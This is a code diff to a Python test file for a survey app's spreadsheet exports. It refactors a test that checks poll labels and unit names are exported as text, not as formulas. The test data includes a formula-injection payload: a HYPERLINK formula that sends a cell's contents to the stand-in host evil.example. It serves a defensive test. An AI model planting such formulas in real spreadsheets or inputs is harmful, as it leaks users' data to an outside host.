@@ -5,7 +5,6 @@ Every export is read back with openpyxl (no cell of type formula) and with pytho
 labels and user names.
 """
 
-import datetime as dt
 import io
 import uuid
 
@@ -15,13 +14,12 @@ from sqlalchemy import select
 
 from survey_app.catalog.services import definition_of, sync_definition
 from survey_app.models import Unit
-from survey_app.models.responses import Channel
 from survey_app.polls import services as polls
-from survey_app.responses.services import store_response
 from survey_app.surveys.loader import load_definition
 from survey_app.surveys.validation import validate
 from survey_app.surveys.xlsform import export_xlsform
 from tests.conftest import csrf_token
+from tests.factories import add_poll_answers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A3,"x")'
 PHONE = "=1+1+1+1+1"
@@ -124,10 +122,7 @@ def test_poll_results_export_keeps_labels_and_unit_names_as_text(client, login_a
     definition = definition_of(link.survey.current_version)
     for i in range(6):
         result = validate(definition, {"pick": "abcde"[i % 5]})
-        store_response(db.session.connection(), response_id=uuid.uuid4(),
-                       version_id=link.survey.current_version_id, survey_id=link.survey_id,
-                       answers=result.answers, channel=Channel.POLL, today=dt.date.today(),
-                       unit_id=link.unit_id, poll_link_id=link.id)
+        add_poll_answers(db, link, result.answers)
     db.session.commit()
     login_as("reviewer")
     export = client.get("/admin/polls/results/poll_evil.xlsx")
